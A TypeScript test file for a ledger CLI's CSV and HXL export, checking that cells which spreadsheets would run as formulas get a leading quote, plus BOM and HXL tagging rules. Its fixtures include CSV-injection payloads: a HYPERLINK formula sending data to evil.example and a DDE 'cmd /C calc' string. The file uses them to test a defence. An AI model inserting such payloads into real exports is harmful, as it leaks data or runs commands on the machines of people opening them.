import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { ledger } from './support/cli';
import { seededDataDir } from './support/seeded-data-dir';

/** Text a spreadsheet would run (OWASP, CSV injection): each starts with one of = + - @ tab CR. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Reuters")';
const HOSTILE_QUOTE = '@SUM(1+1)*cmd|" /C calc"!A0';
const HOSTILE_PHASE = '-2+3';
const HOSTILE_CHANNEL = '+cmd';
const FORMULA_START = /^[=+\-@\t\r]/;

const scenario = [
  {
    method: 'POST',
    path: '/sources',
    body: { sourceId: 'formula-desk', name: HOSTILE_NAME, kind: 'media', channel: HOSTILE_CHANNEL },
  },
  {
    method: 'POST',
    path: '/agreements/istanbul-2025/transfers',
    body: {
      claimId: 'claim-formula',
      termId: 'repatriation',
      direction: { from: 'russia', to: 'ukraine' },
      measure: 'bodies',
      scope: { kind: 'phase', phase: HOSTILE_PHASE },
      quantity: { value: 12, precision: 'exact' },
      sourceId: 'formula-desk',
      statedAt: '2025-06-18T09:00:00Z',
      quote: HOSTILE_QUOTE,
    },
  },
];

/**
 * CSV and HXL exports read by a third-party CSV parser (csv-parse): text cells that would run as
 * formulas get a leading quote unless --raw, numbers stay numbers, --bom starts the file with a
 * byte-order mark, and the HXL row follows HXL's conventions (numbers only under +num, a count
 * column that sums to the claims, #date+reported for statement dates).
 */
describe('CSV and HXL exports for spreadsheets and for programs', () => {
  let dir: string;
  let dataDir: string;
  const cli = (...args: string[]) => ledger(['--data-dir', dataDir, ...args], { cwd: dir });
  const rowsOf = (text: string, bom = false): string[][] => {
    const rows: unknown = parse(text, { bom, relax_column_count: false });
    return rows as string[][];
  };

  beforeAll(async () => {
    ({ dir, dataDir } = await seededDataDir('ledger-export-conventions-'));
    writeFileSync(join(dir, 'hostile.json'), JSON.stringify(scenario));
    const imported = await cli('import', join(dir, 'hostile.json'), '--actor', 'desk-editor');
    if (imported.code !== 0) throw new Error(`${imported.stdout}${imported.stderr}`);
  }, 120_000);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const column = (rows: string[][], claimId: string, name: string): string | undefined =>
    rows.find((r) => r[0] === claimId)?.[rows[0]!.indexOf(name)];

  it('escapes cells a spreadsheet would run as formulas with a leading quote', async () => {
    const result = await cli('export', '--format', 'csv');
    expect(result.code).toBe(0);
    const rows = rowsOf(result.stdout);
    expect(column(rows, 'claim-formula', 'source_name')).toBe(`'${HOSTILE_NAME}`);
    expect(column(rows, 'claim-formula', 'quote')).toBe(`'${HOSTILE_QUOTE}`);
    expect(column(rows, 'claim-formula', 'phase_or_period')).toBe(`'${HOSTILE_PHASE}`);
    // No cell of any row starts a formula; numbers are still plain numbers.
    expect(rows.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(column(rows, 'claim-formula', 'value')).toBe('12');
  });

  it('--raw writes the cells exactly as recorded, for programs', async () => {
    const rows = rowsOf((await cli('export', '--format', 'csv', '--raw')).stdout);
    expect(column(rows, 'claim-formula', 'source_name')).toBe(HOSTILE_NAME);
    expect(column(rows, 'claim-formula', 'quote')).toBe(HOSTILE_QUOTE);
    expect(column(rows, 'claim-formula', 'phase_or_period')).toBe(HOSTILE_PHASE);
  });

  it('--bom starts the file with a UTF-8 byte-order mark that a CSV reader strips', async () => {
    const result = await cli('export', '--format', 'csv', '--bom', '--out', 'bom.csv');
    expect(result.code).toBe(0);
    const bytes = readFileSync(join(dir, 'bom.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rowsOf(bytes.toString('utf8'), true)[0]?.[0]).toBe('claim_id');
    expect((await cli('export', '--format', 'csv')).stdout.charCodeAt(0)).not.toBe(0xfeff);
  });

  it('HXL: numbers only under +num, a count column that sums to the claims, #date+reported', async () => {
    const [header, tags, ...rows] = rowsOf((await cli('export', '--format', 'hxl')).stdout);
    expect(tags![header!.indexOf('stated_at')]).toBe('#date+reported');
    const numeric = tags!.flatMap((tag, i) => (/\+num\b/.test(tag) ? [i] : []));
    expect(numeric.length).toBeGreaterThan(0);
    for (const i of numeric)
      expect(
        rows.map((r) => r[i]).filter((cell) => cell !== '' && !/^-?\d+(\.\d+)?$/.test(cell!)),
      ).toEqual([]);
    // Text under #affected (a count HXL tools add up) would be summed as 0 or refused.
    expect(
      tags!.flatMap((tag, i) => (tag.startsWith('#affected') && !numeric.includes(i) ? [tag] : [])),
    ).toEqual([]);
    const count = tags!.indexOf('#meta+count');
    expect(rows.reduce((sum, r) => sum + Number(r[count]), 0)).toBe(rows.length);
  });
});
